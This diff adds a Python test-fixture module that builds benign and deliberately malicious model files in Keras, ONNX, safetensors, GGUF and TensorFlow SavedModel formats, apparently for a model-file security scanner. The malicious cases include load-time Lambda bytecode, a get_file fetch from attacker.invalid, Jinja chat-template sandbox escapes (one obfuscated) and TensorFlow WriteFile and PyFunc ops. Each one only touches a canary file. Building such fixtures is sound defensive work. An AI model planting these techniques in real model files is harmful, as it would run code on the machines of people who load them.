@@ -1,0 +1,428 @@
+"""Fixtures for the non-pickle format scanners, made by the real libraries (Keras 3 on the torch
+backend, onnx.helper, safetensors, gguf's GGUFWriter, TensorFlow's protobuf classes).
+
+Same shape as ``corpus.py``: each :class:`Case` writes one artifact at a path and names the rule
+Bastion must report (``None`` for benign, which must have no finding at medium or above).
+Malicious fixtures only ever create the ``canary`` file if something executes them. Used by the
+tests in ``tests/scan/formats/`` and by ``bench/scan_peers.py``.
+
+    written = write_format_corpus(tmp_path / "formats", tmp_path / "CANARY")
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import struct
+import warnings
+import zipfile
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import numpy as np
+from tests.scan.corpus import Case, Written
+
+os.environ.setdefault("KERAS_BACKEND", "torch")
+
+__all__ = ["FORMAT_BENIGN", "FORMAT_MALICIOUS", "saved_model_bytes", "write_format_corpus"]
+
+
+# -- Keras (3, torch backend) ------------------------------------------------------------------
+
+def _keras_model(lambda_canary: Path | None = None) -> Any:
+    import keras
+
+    inp = keras.Input((5, 4))
+    x = keras.layers.TimeDistributed(keras.layers.Dense(3))(inp)
+    x = keras.layers.Bidirectional(keras.layers.LSTM(4, return_sequences=True))(x)
+    x = keras.layers.GlobalAveragePooling1D()(x)
+    layers = [keras.Input((8,)), keras.layers.Dense(2, activation="softmax")]
+    if lambda_canary is not None:
+        # The attacker's lambda, nested in an inner model: on load it creates the canary.
+        touch = eval(
+            f"lambda t: (__import__('pathlib').Path({str(lambda_canary)!r}).touch(), t)[1]"
+        )
+        layers.insert(1, keras.layers.Lambda(touch))
+    model = keras.Model(inp, keras.Sequential(layers)(x))
+    model.compile(optimizer=keras.optimizers.SGD(0.1), loss="categorical_crossentropy",
+                  metrics=["accuracy"])
+    return model
+
+
+def _save(model: Any, path: Path) -> None:
+    with warnings.catch_warnings():
+        # Keras' legacy .h5 writer trips numpy 2's __array__ copy deprecation; not our code.
+        warnings.simplefilter("ignore", DeprecationWarning)
+        model.save(path)
+
+
+def keras_benign(path: Path, canary: Path) -> None:
+    del canary
+    _save(_keras_model(), path)
+
+
+def keras_lambda(path: Path, canary: Path) -> None:
+    _save(_keras_model(canary), path)
+    canary.unlink(missing_ok=True)  # Keras traces the lambda while building: not our scanner
+
+
+def _keras_edited(edit: Callable[[dict[str, Any]], None]) -> Callable[[Path, Path], None]:
+    """A real ``.keras`` file whose config.json an attacker has edited."""
+
+    def build(path: Path, canary: Path) -> None:
+        del canary
+        clean = path.with_name(f"_{path.name}.clean.keras")
+        _save(_keras_model(), clean)
+        with zipfile.ZipFile(clean) as src, zipfile.ZipFile(path, "w") as dst:
+            for info in src.infolist():
+                data = src.read(info)
+                if info.filename == "config.json":
+                    config = json.loads(data)
+                    edit(config)
+                    data = json.dumps(config).encode()
+                dst.writestr(info, data)
+        clean.unlink()
+
+    return build
+
+
+def first_object(config: object, class_name: str) -> dict[str, Any]:
+    """The first object of a Keras config with this class name (depth first)."""
+    stack: list[Any] = [config]
+    while stack:
+        node = stack.pop()
+        if isinstance(node, dict):
+            if node.get("class_name") == class_name:
+                return node
+            stack.extend(node.values())
+        elif isinstance(node, list):
+            stack.extend(node)
+    raise LookupError(class_name)
+
+
+def _external_module(config: dict[str, Any]) -> None:
+    dense = first_object(config, "Dense")
+    dense["module"], dense["registered_name"] = "attacker_pkg.layers", "attacker_pkg>Dense"
+
+
+def _get_file(config: dict[str, Any]) -> None:
+    # CVE-2025-8747: an object that is keras.utils.get_file, fetching a file on load.
+    dense = first_object(config, "Dense")
+    dense.update({"module": "keras.utils", "class_name": "get_file",
+                  "config": {"fname": "payload", "origin": "https://attacker.invalid/x"}})
+
+
+# -- ONNX ----------------------------------------------------------------------------------------
+
+def onnx_model(op_domain: str = "") -> Any:
+    """A MatMul with a weight, then an If whose then-branch holds the op under test."""
+    from onnx import TensorProto, helper, numpy_helper
+
+    weight = numpy_helper.from_array(np.ones((4, 4), np.float32), "W")
+    op = ("Shell", op_domain) if op_domain else ("Relu", "")
+    then = helper.make_graph(
+        [helper.make_node(op[0], ["m"], ["y"], domain=op[1])],
+        "then", [], [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 4])])
+    other = helper.make_graph([helper.make_node("Identity", ["m"], ["y"])], "else", [],
+                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 4])])
+    graph = helper.make_graph(
+        [helper.make_node("MatMul", ["x", "W"], ["m"]),
+         helper.make_node("If", ["c"], ["y"], then_branch=then, else_branch=other)],
+        "g",
+        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4]),
+         helper.make_tensor_value_info("c", TensorProto.BOOL, [])],
+        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 4])],
+        [weight],
+    )
+    opsets = [helper.make_opsetid("", 17)]
+    if op_domain:
+        opsets.append(helper.make_opsetid(op_domain, 1))
+    return helper.make_model(graph, opset_imports=opsets, producer_name="bastion-tests")
+
+
+def onnx_benign(path: Path, canary: Path) -> None:
+    import onnx
+
+    del canary
+    onnx.save(onnx_model(), path)
+
+
+def onnx_custom_domain(path: Path, canary: Path) -> None:
+    import onnx
+
+    del canary
+    onnx.save(onnx_model("com.attacker.ops"), path)
+
+
+def onnx_external_escape(path: Path, canary: Path) -> None:
+    """External data two directories up: loading reads that file (it never writes)."""
+    import onnx
+    from onnx.external_data_helper import set_external_data
+
+    model = onnx_model()
+    weight = model.graph.initializer[0]
+    set_external_data(weight, location=f"../../{canary.name}")
+    weight.ClearField("raw_data")
+    onnx.save(model, path)
+
+
+# -- safetensors ---------------------------------------------------------------------------------
+
+def safetensors_benign(path: Path, canary: Path) -> None:
+    from safetensors.numpy import save_file
+
+    del canary
+    save_file({"weight": np.ones((8, 4), np.float32), "bias": np.zeros(4, np.float16),
+               "steps": np.arange(3, dtype=np.int64)}, path, metadata={"format": "np"})
+
+
+def retouch_header(path: Path, edit: Callable[[dict[str, Any]], None],
+                   length: int | None = None) -> None:
+    """Rewrite a real safetensors file's header as an attacker would (data left in place)."""
+    raw = path.read_bytes()
+    size = struct.unpack("<Q", raw[:8])[0]
+    header = json.loads(raw[8 : 8 + size])
+    edit(header)
+    text = json.dumps(header).encode()
+    text += b" " * (-len(text) % 8)
+    path.write_bytes(struct.pack("<Q", length if length is not None else len(text)) + text
+                     + raw[8 + size :])
+
+
+def _safetensors_corrupt(edit: Callable[[dict[str, Any]], None],
+                         length: int | None = None) -> Callable[[Path, Path], None]:
+    def build(path: Path, canary: Path) -> None:
+        safetensors_benign(path, canary)
+        retouch_header(path, edit, length)
+
+    return build
+
+
+def _overlap(header: dict[str, Any]) -> None:
+    begin = header["weight"]["data_offsets"][0]  # 128 bytes: room for steps' 24
+    header["steps"]["data_offsets"] = [begin, begin + 24]
+
+
+def _out_of_bounds(header: dict[str, Any]) -> None:
+    header["weight"]["data_offsets"] = [10**9, 10**9 + 128]
+
+
+def _bad_dtype(header: dict[str, Any]) -> None:
+    header["bias"]["dtype"] = "PYOBJ"
+
+
+# -- GGUF ----------------------------------------------------------------------------------------
+
+BENIGN_TEMPLATE = (
+    "{% for message in messages %}{% if message['role'] == 'system' %}<<SYS>>{{ message['content']"
+    " | trim }}<</SYS>>{% elif message['role'] == 'user' %}[INST] {{ message['content'] }} [/INST]"
+    "{% else %}{{ message['content'] }}{{ eos_token }}{% endif %}{% endfor %}"
+    "{% if add_generation_prompt %}{{ '<|assistant|>' }}{% endif %}"
+)
+# Rendered by plain Jinja, each creates the canary through Python's builtins.
+MALICIOUS_TEMPLATE = (
+    "{% for message in messages %}{{ message['content'] }}{% endfor %}"
+    "{{ cycler.__init__.__globals__.__builtins__['open']('CANARY', 'w').close() }}"
+)
+OBFUSCATED_TEMPLATE = (
+    "{% set g = '__glo' ~ 'bals__' %}{{ (lipsum|attr(g))['__builtins__']['open']('CANARY', 'w')"
+    " }}"
+)
+
+
+def write_gguf(path: Path, template: str) -> None:
+    """A tiny llama-architecture GGUF with a token list, two tensors and a chat template."""
+    import gguf
+
+    writer = gguf.GGUFWriter(path, "llama")
+    writer.add_block_count(1)
+    writer.add_context_length(128)
+    writer.add_token_list(["<s>", "</s>", "hello"])
+    writer.add_token_scores([0.0, 0.0, -1.5])
+    writer.add_chat_template(template)
+    writer.add_tensor("token_embd.weight", np.zeros((3, 8), np.float32))
+    writer.add_tensor("output_norm.weight", np.ones(8, np.float32))
+    writer.write_header_to_file()
+    writer.write_kv_data_to_file()
+    writer.write_tensors_to_file()
+    writer.close()
+
+
+def _gguf(template: str) -> Callable[[Path, Path], None]:
+    def build(path: Path, canary: Path) -> None:
+        write_gguf(path, template.replace("CANARY", str(canary)))
+
+    return build
+
+
+# -- TensorFlow SavedModel (protobuf classes shipped by tensorboard; TensorFlow not installed) --
+
+def _saved_model_class() -> Any:
+    """The ``SavedModel`` message (saved_model.proto: schema version + MetaGraphDefs), declared
+    on top of tensorboard's real ``MetaGraphDef``; tensorboard ships every other TF proto."""
+    from google.protobuf import descriptor_pb2, descriptor_pool, message_factory
+    from tensorboard.compat.proto import meta_graph_pb2
+
+    pool = descriptor_pool.Default()
+    try:
+        descriptor = pool.FindMessageTypeByName("tensorboard.SavedModel")
+    except KeyError:
+        proto = descriptor_pb2.FileDescriptorProto(
+            name="bastion_tests/saved_model.proto", package="tensorboard", syntax="proto3",
+            dependency=[meta_graph_pb2.DESCRIPTOR.name])
+        message = proto.message_type.add(name="SavedModel")
+        message.field.add(name="saved_model_schema_version", number=1, type=3, label=1)
+        message.field.add(name="meta_graphs", number=2, type=11, label=3,
+                          type_name=".tensorboard.MetaGraphDef")
+        pool.Add(proto)
+        descriptor = pool.FindMessageTypeByName("tensorboard.SavedModel")
+    return message_factory.GetMessageClass(descriptor)
+
+
+def saved_model_bytes(extra: Callable[[Any], None] | None = None) -> bytes:
+    """A SavedModel like TF2 writes for a dense layer: variables, a serving function, and the
+    standard traced save/restore functions; ``extra`` adds the attacker's part."""
+    model = _saved_model_class()(saved_model_schema_version=1)
+    meta = model.meta_graphs.add()
+    meta.meta_info_def.tags.append("serve")
+    meta.meta_info_def.tensorflow_version = "2.16.1"
+    graph = meta.graph_def
+    for name, op in [("serving_default_x", "Placeholder"), ("dense/kernel", "VarHandleOp"),
+                     ("dense/bias", "VarHandleOp"), ("saver_filename", "Placeholder"),
+                     ("StatefulPartitionedCall", "StatefulPartitionedCall"),
+                     ("StatefulPartitionedCall_1", "StatefulPartitionedCall")]:
+        node = graph.node.add(name=name, op=op)
+        if op == "StatefulPartitionedCall":
+            node.attr["f"].func.name = "__inference_serving_12"
+    serving = graph.library.function.add()
+    serving.signature.name = "__inference_serving_12"
+    for name, op in [("MatMul/ReadVariableOp", "ReadVariableOp"), ("MatMul", "MatMul"),
+                     ("BiasAdd", "BiasAdd"), ("Relu", "Relu"), ("Identity", "Identity")]:
+        serving.node_def.add(name=name, op=op)
+    for kind, ops in [("save", ["StringJoin", "ShardedFilename", "SaveV2",
+                                "MergeV2Checkpoints", "Identity"]),
+                      ("restore", ["RestoreV2", "AssignVariableOp", "NoOp", "Identity"])]:
+        function = graph.library.function.add()
+        function.signature.name = f"__inference__traced_{kind}_99"
+        for i, op in enumerate(ops):
+            function.node_def.add(name=f"{op}_{i}", op=op)
+    user = meta.object_graph_def.nodes.add()
+    user.user_object.identifier = "_tf_keras_layer"
+    user.user_object.metadata = json.dumps(
+        {"class_name": "Dense", "config": {"name": "dense", "units": 4, "activation": "relu"}})
+    if extra is not None:
+        extra(meta)
+    return bytes(model.SerializeToString())
+
+
+def _write_file_op(canary: Path) -> Callable[[Any], None]:
+    """WriteFile(path=canary, contents=""): run by TensorFlow, it creates the canary."""
+
+    def add(meta: Any) -> None:
+        graph = meta.graph_def
+        name = graph.node.add(name="path", op="Const")
+        name.attr["value"].tensor.dtype = 7  # DT_STRING
+        name.attr["value"].tensor.string_val.append(str(canary).encode())
+        graph.node.add(name="payload", op="Const")
+        graph.node.add(name="drop", op="WriteFile", input=["path", "payload"])
+
+    return add
+
+
+def _py_func(canary: Path) -> Callable[[Any], None]:
+    del canary
+
+    def add(meta: Any) -> None:
+        function = meta.graph_def.library.function.add()
+        function.signature.name = "__inference_call_7"
+        function.node_def.add(name="callback", op="EagerPyFunc").attr["token"].s = b"pyfunc_0"
+
+    return add
+
+
+def _keras_metadata_lambda(canary: Path) -> Callable[[Any], None]:
+    """tf.keras metadata of a legacy Lambda layer whose bytecode touches the canary."""
+    import base64
+    import marshal
+
+    code = compile(f"__import__('pathlib').Path({str(canary)!r}).touch()", "<lambda>", "eval")
+
+    def add(meta: Any) -> None:
+        user = meta.object_graph_def.nodes.add()
+        user.user_object.identifier = "_tf_keras_layer"
+        user.user_object.metadata = json.dumps({"class_name": "Lambda", "config": {
+            "name": "lambda", "function_type": "lambda",
+            "function": [base64.encodebytes(marshal.dumps(code)).decode(), None, None]}})
+
+    return add
+
+
+def _saved_model(extra: Callable[[Path], Callable[[Any], None]] | None) -> Callable[[Path, Path],
+                                                                                   None]:
+    """A SavedModel directory at ``path`` (saved_model.pb plus an empty variables/)."""
+
+    def build(path: Path, canary: Path) -> None:
+        (path / "variables").mkdir(parents=True)
+        (path / "saved_model.pb").write_bytes(
+            saved_model_bytes(extra(canary) if extra else None))
+
+    return build
+
+
+FORMAT_BENIGN: tuple[Case, ...] = (
+    Case("keras_benign.keras", "keras", keras_benign),
+    Case("keras_benign.h5", "keras", keras_benign),
+    Case("onnx_benign.onnx", "onnx", onnx_benign),
+    Case("safetensors_benign.safetensors", "safetensors", safetensors_benign),
+    Case("gguf_benign.gguf", "gguf", _gguf(BENIGN_TEMPLATE)),
+    Case("savedmodel_benign", "savedmodel", _saved_model(None)),
+)
+
+FORMAT_MALICIOUS: tuple[Case, ...] = (
+    Case("keras_lambda.keras", "keras", keras_lambda, "keras.lambda.bytecode",
+         {"class_name": "__lambda__"}),
+    Case("keras_lambda.h5", "keras", keras_lambda, "keras.lambda.bytecode",
+         {"class_name": "__lambda__"}),
+    Case("keras_external_module.keras", "keras", _keras_edited(_external_module),
+         "keras.module.external", {"module": "attacker_pkg.layers"}),
+    Case("keras_get_file.keras", "keras", _keras_edited(_get_file), "keras.api.unsafe",
+         {"module": "keras.utils", "name": "get_file"}),
+    Case("onnx_custom_domain_in_subgraph.onnx", "onnx", onnx_custom_domain,
+         "onnx.domain.unknown", {"domain": "com.attacker.ops", "ops": ["Shell"]}),
+    Case("onnx_external_data_escape.onnx", "onnx", onnx_external_escape,
+         "onnx.external-data.escape", {}),
+    Case("safetensors_overlap.safetensors", "safetensors", _safetensors_corrupt(_overlap),
+         "safetensors.tensor.overlap", {"tensors": ["steps", "weight"]}),
+    Case("safetensors_out_of_bounds.safetensors", "safetensors",
+         _safetensors_corrupt(_out_of_bounds), "safetensors.tensor.bounds",
+         {"tensor": "weight"}),
+    Case("safetensors_bad_dtype.safetensors", "safetensors", _safetensors_corrupt(_bad_dtype),
+         "safetensors.dtype.unknown", {"tensor": "bias"}),
+    Case("safetensors_huge_header_length.safetensors", "safetensors",
+         _safetensors_corrupt(lambda header: None, length=2**63), "safetensors.header.length",
+         {"header_length": 2**63}),
+    Case("gguf_template_globals.gguf", "gguf", _gguf(MALICIOUS_TEMPLATE),
+         "gguf.template.internals", {"key": "tokenizer.chat_template"}),
+    Case("gguf_template_obfuscated.gguf", "gguf", _gguf(OBFUSCATED_TEMPLATE),
+         "gguf.template.internals", {"key": "tokenizer.chat_template"}),
+    Case("savedmodel_write_file", "savedmodel", _saved_model(_write_file_op), "tf.op.file",
+         {"op": "WriteFile", "node": "graph/drop"}),
+    Case("savedmodel_py_func", "savedmodel", _saved_model(_py_func), "tf.op.python",
+         {"op": "EagerPyFunc"}),
+    Case("savedmodel_keras_lambda", "savedmodel", _saved_model(_keras_metadata_lambda),
+         "keras.lambda.bytecode", {}),
+)
+
+
+def write_format_corpus(directory: Path, canary: Path, *, benign: bool = True,
+                        malicious: bool = True) -> list[Written]:
+    """Write the chosen format cases into ``directory`` (created); same as ``write_corpus``."""
+    directory.mkdir(parents=True, exist_ok=True)
+    cases = (FORMAT_BENIGN if benign else ()) + (FORMAT_MALICIOUS if malicious else ())
+    written = []
+    for case in cases:
+        path = directory / case.name
+        case.build(path, canary)
+        written.append(Written(case, path))
+    return written
